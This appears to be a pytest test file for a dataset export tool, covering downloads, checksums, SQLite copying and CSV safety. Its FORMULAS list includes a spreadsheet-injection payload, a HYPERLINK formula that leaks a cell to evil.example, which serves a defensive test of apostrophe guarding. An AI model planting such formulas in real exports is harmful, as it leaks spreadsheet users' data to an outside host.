"""The downloads are written into their files one at a time, each straight into its file, with
its size and SHA-256 counted on the way."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import sqlite3
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import pytest
import yaml
from conftest import WriteRecorder, exported

from iranru_ref.check import load_checked
from iranru_ref.database import Database
from iranru_ref.exports import export_downloads, sqlite_file
from iranru_ref.exports.csv_tables import write_csv
from iranru_ref.exports.tables import LIST_SEPARATOR, TABLE_INDEX, TABLES, table_rows
from iranru_ref.load.project import Project
from iranru_ref.site.tree import TreeWriter

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def seed_database() -> Database:
    return load_checked(Project.find(ROOT))


def test_each_download_is_written_and_closed_before_the_next_is_opened(seed_database: Database) -> None:
    events: list[tuple[str, str]] = []
    written: dict[str, bytes] = {}

    @contextlib.contextmanager
    def open_file(name: str) -> Iterator[BinaryIO]:
        assert not events or events[-1][0] == "closed", f"{name} opened while another is open"
        events.append(("opened", name))
        buffer = io.BytesIO()
        yield buffer
        written[name] = buffer.getvalue()
        events.append(("closed", name))

    downloads = export_downloads(seed_database, open_file)
    # the catalogue lists every file but the per-entity ones, one per entity
    records = [name for name in written if name.startswith("entities/")]
    assert records == [f"entities/{entity_id}.json" for entity_id in seed_database.entities]
    assert [d.name for d in downloads] == [name for name in written if name not in records]
    assert [d.name for d in downloads][-2:] == ["dataset.jsonld", "index.json"]
    for download in downloads:
        data = written[download.name]
        assert data, download.name
        assert (download.size, download.sha256) == (len(data), hashlib.sha256(data).hexdigest())


def test_each_csv_table_has_its_header_and_every_row(seed_database: Database) -> None:
    rows = table_rows(seed_database)
    for table in TABLES:
        out = io.StringIO(newline="")
        write_csv(table, rows[table.name], out)
        read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        assert read[0] == [column.name for column in table.columns], table.name
        assert len(read) == len(rows[table.name]) + 1, table.name


def test_a_table_without_rows_is_its_header() -> None:
    table = TABLE_INDEX["tags"]
    out = io.StringIO(newline="")
    write_csv(table, [], out)
    assert out.getvalue() == ",".join(c.name for c in table.columns) + "\n"


def test_text_downloads_are_utf8_with_unix_line_ends(seed_database: Database) -> None:
    written = exported(seed_database)
    for name, data in written.items():
        if name.endswith((".json", ".jsonld", ".csv", ".graphml", ".gexf")):
            assert b"\r\n" not in data, name
            assert data.endswith(b"\n"), name
            data.decode("utf-8")  # raises if it is not UTF-8
    assert "–".encode() in written["database.json"]  # written as UTF-8, not escaped


def test_the_sqlite_database_is_copied_in_a_chunk_at_a_time_from_a_scratch_file_removed_after(
        seed_database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Built in memory and serialised, the database and two copies of it were fresh memory at
    once (0.3 GB at 10k entities)."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    monkeypatch.setattr(sqlite_file, "CHUNK", 4096)
    out = WriteRecorder()
    sqlite_file.write_sqlite(table_rows(seed_database), out)
    assert len(out.writes) > 2 and all(len(w) == 4096 for w in out.writes)
    assert not list(scratch.iterdir())
    copied = tmp_path / "copied.sqlite"
    copied.write_bytes(b"".join(out.writes))
    with contextlib.closing(sqlite3.connect(copied)) as db:
        assert db.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert db.execute("SELECT count(*) FROM claims").fetchone() == (
            sum(len(r.entity.claims) for r in seed_database.entities.values()),)


def _written(writer: TreeWriter, relative: str, data: bytes) -> None:
    with writer.open(relative) as file:
        file.write(data[:3])
        file.write(data[3:])


def test_an_opened_file_of_a_fresh_tree_is_written(tmp_path: Path) -> None:
    writer = TreeWriter(tmp_path / "docs")
    _written(writer, "data/a.json", b'{"a": 1}\n')
    writer.finish()
    assert (tmp_path / "docs" / "data" / "a.json").read_bytes() == b'{"a": 1}\n'


def test_rewriting_an_unchanged_download_leaves_the_file_alone(tmp_path: Path) -> None:
    """`mkdocs serve` watches the tree: an identical download must not be written again."""
    root = tmp_path / "docs"
    first = TreeWriter(root)
    _written(first, "data/a.json", b"same bytes")
    _written(first, "data/b.json", b"old bytes")
    first.finish()
    os.utime(root / "data" / "a.json", (1_000_000, 1_000_000))
    second = TreeWriter(root)
    _written(second, "data/a.json", b"same bytes")
    _written(second, "data/b.json", b"new and longer bytes")
    second.finish()
    assert (root / "data" / "a.json").stat().st_mtime == 1_000_000
    assert (root / "data" / "b.json").read_bytes() == b"new and longer bytes"
    assert sorted(p.name for p in (root / "data").iterdir()) == ["a.json", "b.json"]


def test_a_download_that_fails_midway_leaves_the_previous_file(tmp_path: Path) -> None:
    root = tmp_path / "docs"
    first = TreeWriter(root)
    _written(first, "data/a.json", b"complete")
    first.finish()
    second = TreeWriter(root)
    with pytest.raises(RuntimeError), second.open("data/a.json") as file:
        file.write(b"half")
        raise RuntimeError("the exporter failed")
    assert (root / "data" / "a.json").read_bytes() == b"complete"
    assert [p.name for p in (root / "data").iterdir()] == ["a.json"]


def test_a_download_that_fails_in_a_fresh_tree_leaves_no_file(tmp_path: Path) -> None:
    writer = TreeWriter(tmp_path / "docs")
    with pytest.raises(RuntimeError), writer.open("data/a.json") as file:
        file.write(b"half")
        raise RuntimeError("the exporter failed")
    assert not (tmp_path / "docs" / "data" / "a.json").exists()


def test_a_download_cannot_take_a_path_already_written(tmp_path: Path) -> None:
    writer = TreeWriter(tmp_path)
    writer.write_text("data/a.json", "{}")
    with pytest.raises(ValueError, match="data/a.json"), writer.open("data/a.json"):
        pass


#: text cells that a spreadsheet would run, and the apostrophe that guards them
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'an apostrophe"]


def test_a_csv_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
    table = TABLE_INDEX["entities"]
    width = len(table.columns)
    rows = [(text,) + ("plain",) * (width - 1) for text in FORMULAS]
    rows += [("plain = text", -5, -2.5, True, None) + ("",) * (width - 5)]
    out = io.StringIO(newline="")
    write_csv(table, rows, out)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [row[0] for row in read[:-1]] == ["'" + text for text in FORMULAS]
    assert all(row[1:] == ["plain"] * (width - 1) for row in read[:-1])
    assert read[-1][:5] == ["plain = text", "-5", "-2.5", "true", ""]  # numbers stay numbers


def test_formulas_in_names_are_guarded_in_the_csv_files_only(project: Path) -> None:
    """A record whose name and aliases start like formulas: the CSV cells carry the apostrophe,
    the SQLite database and database.json the curated text."""
    name, *aliases = FORMULAS[:4]
    article = "A headline\n\nThe minister said =1+1 twice.\n"
    (project / "sources" / "formula-article.txt").write_text(article, encoding="utf-8")
    meta = {"title": "-A title", "date": {"value": "2024", "precision": "year"},
            "language": "en", "sha256": hashlib.sha256(article.encode()).hexdigest(),
            "paragraphs": {1: "heading"}}
    record = {"name": name, "aliases": [*aliases, "'quoted", "plain"], "tags": ["diplomacy"],
              "claims": [{"id": "said", "predicate": "stated", "text": "=1+1, he said.",
                          "citations": [{"source": "formula-article", "paragraph": 2,
                                         "quote": "=1+1"}]}]}
    for path, content in (("sources/formula-article.yml", meta),
                          ("data/people/formula-person.yml", record)):
        (project / path).write_text(yaml.safe_dump(content, allow_unicode=True, width=1000),
                                    encoding="utf-8")
    written = exported(load_checked(Project.find(project)))
    stored_aliases = LIST_SEPARATOR.join(record["aliases"])
    rows = {row["id"]: row for row in csv.DictReader(
        io.StringIO(written["entities.csv"].decode("utf-8"), newline=""))}
    assert rows["formula-person"]["name"] == "'" + name
    assert rows["formula-person"]["aliases"] == "'" + stored_aliases
    tags = list(csv.DictReader(io.StringIO(written["entity_tags.csv"].decode("utf-8"), newline="")))
    assert {"entity_id": "formula-person", "tag": "diplomacy"} in tags  # ids are never guarded
    claims = {row["id"]: row for row in csv.DictReader(
        io.StringIO(written["claims.csv"].decode("utf-8"), newline=""))}
    assert claims["formula-person.said"]["text"] == "'=1+1, he said."
    citations = csv.DictReader(io.StringIO(written["citations.csv"].decode("utf-8"), newline=""))
    assert [row["quote"] for row in citations if row["source_id"] == "formula-article"] == ["'=1+1"]
    sources = csv.DictReader(io.StringIO(written["sources.csv"].decode("utf-8"), newline=""))
    assert [row["title"] for row in sources if row["id"] == "formula-article"] == ["'-A title"]
    with tempfile.TemporaryDirectory() as folder:
        database = Path(folder) / "iranru.sqlite"
        database.write_bytes(written["iranru.sqlite"])
        with contextlib.closing(sqlite3.connect(database)) as connection:
            stored = connection.execute("SELECT name, aliases FROM entities WHERE id = ?",
                                        ("formula-person",)).fetchone()
    assert stored == (name, stored_aliases)
    entities = json.loads(written["database.json"])["entities"]
    (entity,) = [entity for entity in entities if entity["id"] == "formula-person"]
    assert (entity["name"], entity["aliases"]) == (name, record["aliases"])
